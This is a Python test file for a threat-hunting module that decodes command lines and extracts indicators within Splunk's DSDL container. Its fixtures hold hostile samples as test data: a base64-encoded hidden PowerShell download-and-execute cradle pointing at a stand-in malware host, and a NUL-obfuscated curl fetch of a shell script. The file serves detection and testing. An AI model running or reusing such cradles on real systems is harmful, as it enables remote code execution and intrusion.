"""huntbook.dsdl, called the way the DSDL (MLTK Container) app calls a model module."""

from __future__ import annotations

import base64
import io
import json
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from huntbook import dsdl
from huntbook.errors import DataError, ParameterError, StoreError

URL = "http://malware.example.net/stage2.ps1"
IP = "203.0.113.77"


def _encoded_command() -> str:
    script = f"IEX (New-Object Net.WebClient).DownloadString('{URL}'); ping {IP}"
    return "powershell.exe -nop -w hidden -enc " + base64.b64encode(script.encode("utf-16-le")).decode()


def _splunk_df(rows: list[dict[str, str]]) -> pd.DataFrame:
    """The frame as the container builds it: Splunk's results as CSV, read with pandas, all strings."""
    buf = io.StringIO()
    pd.DataFrame(rows).to_csv(buf, index=False)
    return pd.read_csv(io.StringIO(buf.getvalue()), dtype=str, keep_default_na=False)


def _param(features: list[str] | None = None, model_name: str = "huntbook", **params: str) -> dict[str, Any]:
    """DSDL's metadata: feature fields, model name and the command's options (quoted strings)."""
    return {
        "feature_variables": features if features is not None else ["CommandLine"],
        "target_variables": [],
        "options": {
            "model_name": model_name,
            "params": {"algo": '"huntbook_pipeline"', **{k: f'"{v}"' for k, v in params.items()}},
        },
    }


@pytest.fixture
def events() -> pd.DataFrame:
    return _splunk_df(
        [
            {"host": "ws1", "CommandLine": _encoded_command()},
            {"host": "ws2", "CommandLine": "cmd.exe /c dir C:\\Users"},
            {"host": "ws3", "CommandLine": "c\x00u\x00r\x00l\x00 http://198.51.100.9/a.sh"},
        ]
    )


@pytest.fixture(autouse=True)
def model_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "models"
    monkeypatch.setenv(dsdl.MODEL_DIR_ENV, str(folder))
    return folder


def _fit_then_apply(df: pd.DataFrame, param: dict[str, Any]) -> pd.DataFrame:
    """The container's /fit: init, fit, save as <algo>_<model>, apply."""
    model = dsdl.init(df, param)
    info = dsdl.fit(model, df, param)
    assert isinstance(info, dict)
    dsdl.save(model, "huntbook_pipeline_" + param["options"]["model_name"])
    return dsdl.apply(model, df, param)


def test_fit_apply_contract(events: pd.DataFrame) -> None:
    before = events.copy()
    param = _param()
    model = dsdl.init(events, param)
    info = dsdl.fit(model, events, param)
    assert info["rows"] == 3 and info["fields"] == ["CommandLine"]
    out = dsdl.apply(model, events, param)
    pd.testing.assert_frame_equal(events, before)  # input untouched
    assert len(out) == len(events) and out.index.equals(events.index)
    assert list(out.columns[:2]) == ["host", "CommandLine"]
    for name in ("decoded", "iocs", "ioc_types", "ioc_count"):
        assert f"CommandLine_{name}" in out.columns
    assert "CommandLine_ti_severity" not in out.columns  # no enrichment by default
    # the container sends the result back as CSV
    assert pd.read_csv(io.StringIO(out.to_csv(index=False))).shape == out.shape


def test_encoded_powershell_is_decoded_and_its_iocs_extracted(events: pd.DataFrame) -> None:
    out = _fit_then_apply(events, _param())
    first = out.iloc[0]
    assert URL in first["CommandLine_decoded"] and "DownloadString" in first["CommandLine_decoded"]
    iocs = first["CommandLine_iocs"].split("\n")
    types = first["CommandLine_ioc_types"].split("\n")
    assert URL in iocs and IP in iocs
    assert types[iocs.index(URL)] == "url" and types[iocs.index(IP)] == "ipv4"
    assert first["CommandLine_ioc_count"] == len(iocs)
    assert out.iloc[1]["CommandLine_decoded"] == "cmd.exe /c dir C:\\Users"


def test_nul_bytes_are_stripped(events: pd.DataFrame) -> None:
    out = _fit_then_apply(events, _param())
    third = out.iloc[2]
    assert third["CommandLine_decoded"] == "curl http://198.51.100.9/a.sh"
    assert "198.51.100.9" in third["CommandLine_iocs"].split("\n")
    assert "\x00" not in "".join(out["CommandLine_decoded"])


def test_keeps_a_non_default_index(events: pd.DataFrame) -> None:
    shifted = events.set_axis([10, 20, 30])
    out = dsdl.apply(dsdl.init(shifted, _param()), shifted, _param())
    assert list(out.index) == [10, 20, 30]
    assert IP in out.loc[10, "CommandLine_iocs"]


def test_field_option_ioc_types_and_decode_off(events: pd.DataFrame) -> None:
    param = _param(features=[], field="CommandLine", ioc_types="ipv4", decode="false")
    model = dsdl.init(events, param)
    assert model["fields"] == ["CommandLine"] and model["decode"] is False
    out = dsdl.apply(model, events, param)
    assert out.iloc[0]["CommandLine_decoded"] == events.iloc[0]["CommandLine"]  # still encoded
    assert out.iloc[0]["CommandLine_iocs"] == ""
    assert set(out.iloc[2]["CommandLine_ioc_types"].split("\n")) == {"ipv4"}


def test_save_load_round_trip(events: pd.DataFrame, model_dir: Path) -> None:
    feed = model_dir.parent / "feed.txt"
    model = dsdl.init(events, _param(ioc_types="url,ipv4", max_depth="3", feeds=str(feed)))
    dsdl.save(model, "huntbook_pipeline_case7")
    saved = model_dir / "huntbook_pipeline_case7.json"
    assert json.loads(saved.read_text(encoding="utf-8"))["max_depth"] == 3
    loaded = dsdl.load("huntbook_pipeline_case7")
    assert loaded == model and loaded["ti_providers"] == ["local_feeds"]
    with pytest.raises(StoreError, match="no such model"):
        dsdl.load("huntbook_pipeline_other")
    with pytest.raises(ParameterError, match="bad model name"):
        dsdl.save(model, "../escape")


def test_summary(events: pd.DataFrame) -> None:
    bare = dsdl.summary()
    assert "huntbook" in bare["version"] and "feeds" in bare["options"]
    assert "summary" not in bare
    model = dsdl.init(events, _param(ioc_types="dns"))
    assert dsdl.summary(model)["summary"]["ioc_types"] == ["dns"]


@pytest.mark.parametrize(
    ("params", "where"),
    [
        ({"decode": "maybe"}, "decode"),
        ({"max_depth": "ten"}, "max_depth"),
        ({"max_depth": "0"}, "max_depth"),
        ({"ioc_types": "ipv4,bogus"}, "ioc_types"),
        ({"ti_providers": "no_such_provider"}, "ti_providers"),
        ({"ti_providers": "virustotal"}, "ti_providers"),
        ({"feeds": " , "}, "feeds"),
        ({"default_severity": "urgent"}, "default_severity"),
        ({"max_dpeth": "3"}, "params"),
    ],
)
def test_bad_params_raise_parameter_error(events: pd.DataFrame, params: dict[str, str], where: str) -> None:
    with pytest.raises(ParameterError) as caught:
        dsdl.init(events, _param(**params))
    assert caught.value.where == where and caught.value.hint


def test_missing_field_is_a_data_error(events: pd.DataFrame) -> None:
    with pytest.raises(DataError, match="ParentCommandLine"):
        dsdl.init(events, _param(features=["ParentCommandLine"]))


def test_local_feed_enrichment_flags_the_ioc(events: pd.DataFrame, tmp_path: Path, model_dir: Path) -> None:
    feed = tmp_path / "bad_ips.csv"
    feed.write_text(f"indicator,severity,description\n{IP},high,test C2\n", encoding="utf-8")
    param = _param(feeds=str(feed))
    _fit_then_apply(events, param)
    model = dsdl.load("huntbook_pipeline_huntbook")  # the container's /apply path
    out = dsdl.apply(model, events, param)
    assert out.iloc[0]["CommandLine_ti_severity"] == "high"
    assert out.iloc[0]["CommandLine_ti_flagged"] == IP
    assert out.iloc[2]["CommandLine_ti_severity"] in ("", "info")  # 198.51.100.9 is not in the feed
    assert out.iloc[2]["CommandLine_ti_flagged"] == ""
    assert str(feed) in (model_dir / "huntbook_pipeline_huntbook.json").read_text(encoding="utf-8")


def test_missing_and_numeric_cells_from_a_plain_read_csv() -> None:
    # pd.read_csv without dtype=str (as the container calls it) gives NaN for empty cells
    df = pd.read_csv(io.StringIO("CommandLine,pid\n,4\n" + f"ping {IP},8\n"))
    out = dsdl.apply(dsdl.init(df, _param(features=["CommandLine", "pid"])), df)
    assert pd.isna(out.loc[0, "CommandLine_decoded"]) and out.loc[0, "CommandLine_ioc_count"] == 0
    assert out.loc[1, "CommandLine_iocs"] == IP
    assert out.loc[1, "pid_decoded"] == "8"
